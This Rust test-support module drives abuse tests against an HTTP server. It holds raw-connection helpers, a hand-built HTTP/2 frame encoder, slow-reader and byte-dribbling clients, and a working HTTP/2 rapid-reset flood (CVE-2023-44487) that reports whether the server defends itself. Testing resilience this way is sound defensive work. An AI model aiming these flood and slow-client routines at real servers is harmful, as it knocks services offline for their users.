//! Clients that misbehave on purpose, for the server's abuse tests: raw connections that write
//! exactly the bytes they are given (and never read unless asked), byte-at-a-time senders, and an
//! HTTP/2 client that opens and resets streams as fast as it can (rapid reset, CVE-2023-44487).
//! Plus the process's resident memory, read from `/proc/self/status`.

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use bytes::Bytes;
use rustls_pki_types::CertificateDer;
use sse_server::Protocol;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::client::{listener_addr, tls_connect, ClientSpec};
use crate::target::Endpoints;
use crate::{within, WAIT};

/// Anything a raw connection can be: TCP, or TLS over TCP.
pub trait RawIo: AsyncRead + AsyncWrite + Unpin + Send {}
impl<T: AsyncRead + AsyncWrite + Unpin + Send> RawIo for T {}

/// A raw connection: the caller writes whatever bytes it likes.
pub type RawStream = Box<dyn RawIo>;

/// TCP (with `TCP_NODELAY`) to `server`'s `protocol` listener, plus the TLS handshake with the
/// listener's ALPN on the TLS listeners. Nothing of HTTP is sent.
pub async fn raw_connect(
    server: &(impl Endpoints + ?Sized),
    protocol: Protocol,
) -> std::io::Result<RawStream> {
    raw_connect_to(server.addr(protocol), protocol, &server.cert()).await
}

/// [`raw_connect`] by address.
pub async fn raw_connect_to(
    addr: SocketAddr,
    protocol: Protocol,
    cert: &CertificateDer<'static>,
) -> std::io::Result<RawStream> {
    if protocol.is_tls() {
        let spec = ClientSpec::for_protocol(protocol);
        Ok(Box::new(tls_connect(addr, cert, &spec.alpn).await?))
    } else {
        let tcp = within(WAIT, "tcp connect", TcpStream::connect(addr)).await?;
        tcp.set_nodelay(true)?;
        Ok(Box::new(tcp))
    }
}

/// The bytes that open `GET path` on a `protocol` listener at `addr`: an HTTP/1.1 request head;
/// or, for HTTP/2, the connection preface, a SETTINGS frame, a connection WINDOW_UPDATE (both
/// granting `h2_window` bytes) and a HEADERS frame for stream 1 that ends the request.
pub fn get_request(protocol: Protocol, addr: SocketAddr, path: &str, h2_window: u32) -> Vec<u8> {
    if !protocol.is_http2() {
        return format!("GET {path} HTTP/1.1\r\nhost: {addr}\r\n\r\n").into_bytes();
    }
    const SETTINGS_INITIAL_WINDOW_SIZE: u16 = 0x4;
    const DEFAULT_WINDOW: u32 = 65_535;
    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    let mut settings = SETTINGS_INITIAL_WINDOW_SIZE.to_be_bytes().to_vec();
    settings.extend_from_slice(&h2_window.to_be_bytes());
    frame(&mut out, 0x4, 0, 0, &settings);
    if h2_window > DEFAULT_WINDOW {
        frame(
            &mut out,
            0x8,
            0,
            0,
            &(h2_window - DEFAULT_WINDOW).to_be_bytes(),
        );
    }
    // HPACK: `:method GET` and `:scheme` are in the static table (2, 6 http, 7 https); `:path`
    // (4) and `:authority` (1) are literals without indexing, without Huffman coding.
    let mut block = vec![0x82, if protocol.is_tls() { 0x87 } else { 0x86 }];
    for (name_index, value) in [(4u8, path.to_owned()), (1, addr.to_string())] {
        assert!(value.len() < 127, "a short header value: {value}");
        block.push(name_index);
        block.push(value.len() as u8);
        block.extend_from_slice(value.as_bytes());
    }
    const END_STREAM_END_HEADERS: u8 = 0x1 | 0x4;
    frame(&mut out, 0x1, END_STREAM_END_HEADERS, 1, &block);
    out
}

/// Appends one HTTP/2 frame.
fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    out.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
    out.push(kind);
    out.push(flags);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// A client that opens an event stream and never reads a byte of the response. On HTTP/2 it
/// grants a 16 MiB window, so flow control does not hold the server back: only the socket does.
pub async fn slow_reader(
    server: &(impl Endpoints + ?Sized),
    protocol: Protocol,
    path: &str,
) -> RawStream {
    let mut stream = raw_connect(server, protocol)
        .await
        .expect("a slow reader connects");
    let request = get_request(protocol, listener_addr(server, protocol), path, 16 << 20);
    stream
        .write_all(&request)
        .await
        .expect("a slow reader sends its request");
    stream
}

/// Sends `bytes` one at a time, `every` apart, until they are all sent or the server closes the
/// connection; returns how long after the call the server closed it, `None` if it had not closed
/// it when the bytes ran out. Whatever the server sends is read and dropped.
pub async fn dribble(mut stream: RawStream, bytes: &[u8], every: Duration) -> Option<Duration> {
    let started = Instant::now();
    let mut sink = [0u8; 1024];
    for byte in bytes {
        if stream.write_all(&[*byte]).await.is_err() {
            return Some(started.elapsed());
        }
        let deadline = tokio::time::sleep(every);
        tokio::pin!(deadline);
        loop {
            tokio::select! {
                () = &mut deadline => break,
                read = stream.read(&mut sink) => match read {
                    Ok(0) | Err(_) => return Some(started.elapsed()),
                    Ok(_) => {}
                },
            }
        }
    }
    None
}

/// What a rapid-reset flood did.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct RapidResetReport {
    /// Streams opened and reset at once, as the client counts them (the last ones on each
    /// connection may never reach the server).
    pub streams_reset: u64,
    /// Connections used (a new one after the server closed the last).
    pub connections: u64,
    /// How the server ended each connection it closed (such as a GOAWAY's error code).
    pub connection_ends: Vec<String>,
    /// Connections the server closed with GOAWAY(ENHANCE_YOUR_CALM): its rapid-reset defence.
    pub enhance_your_calm: u64,
}

/// Opens `GET path` streams on one HTTP/2 connection and resets each at once (RST_STREAM
/// CANCEL), as fast as it can, for `how_long`; when the server closes the connection, opens
/// another. Panics if it cannot connect at all.
pub async fn rapid_reset(
    server: &(impl Endpoints + ?Sized),
    protocol: Protocol,
    path: &str,
    how_long: Duration,
) -> RapidResetReport {
    assert!(protocol.is_http2(), "rapid reset is an HTTP/2 attack");
    let addr = listener_addr(server, protocol);
    let cert = server.cert();
    let uri = format!("{}://{addr}{path}", protocol.scheme());
    let deadline = Instant::now() + how_long;
    let mut report = RapidResetReport::default();
    while Instant::now() < deadline {
        let io = raw_connect_to(addr, protocol, &cert)
            .await
            .expect("the flood connects");
        let (mut client, connection) = within(WAIT, "h2 handshake", h2::client::handshake(io))
            .await
            .expect("the flood's h2 handshake");
        let mut connection = tokio::spawn(connection);
        report.connections += 1;
        let mut closed_by_server = false;
        while Instant::now() < deadline && !closed_by_server {
            client = match client.ready().await {
                Ok(client) => client,
                Err(_) => {
                    closed_by_server = true;
                    break;
                }
            };
            let request = http::Request::get(&uri).body(()).expect("a valid request");
            match client.send_request(request, true) {
                Ok((response, mut stream)) => {
                    stream.send_reset(h2::Reason::CANCEL);
                    drop(response);
                    report.streams_reset += 1;
                }
                Err(_) => closed_by_server = true,
            }
            if report.streams_reset % 16 == 0 {
                tokio::task::yield_now().await;
            }
        }
        if !closed_by_server {
            connection.abort();
        }
        match within(WAIT, "the flood's connection end", &mut connection).await {
            Ok(Err(e)) => {
                if e.reason() == Some(h2::Reason::ENHANCE_YOUR_CALM) {
                    report.enhance_your_calm += 1;
                }
                report.connection_ends.push(e.to_string());
            }
            Ok(Ok(())) => report.connection_ends.push("closed".into()),
            Err(_) => {} // aborted by us at the deadline
        }
    }
    report
}

/// The process's resident set size in bytes (`VmRSS` in `/proc/self/status`), `None` where that
/// file does not exist.
pub fn rss_bytes() -> Option<u64> {
    rss_of("self")
}

/// Another process's resident set size in bytes (`VmRSS` in `/proc/PID/status`), `None` if it
/// cannot be read (no such process, or not Linux).
pub fn rss_bytes_of(pid: u32) -> Option<u64> {
    rss_of(&pid.to_string())
}

fn rss_of(process: &str) -> Option<u64> {
    let status = std::fs::read_to_string(format!("/proc/{process}/status")).ok()?;
    let line = status.lines().find(|l| l.starts_with("VmRSS:"))?;
    let kib: u64 = line.split_whitespace().nth(1)?.parse().ok()?;
    Some(kib * 1024)
}

/// A body of `len` bytes of `x`, for POSTs.
pub fn filler(len: usize) -> Bytes {
    Bytes::from(vec![b'x'; len])
}
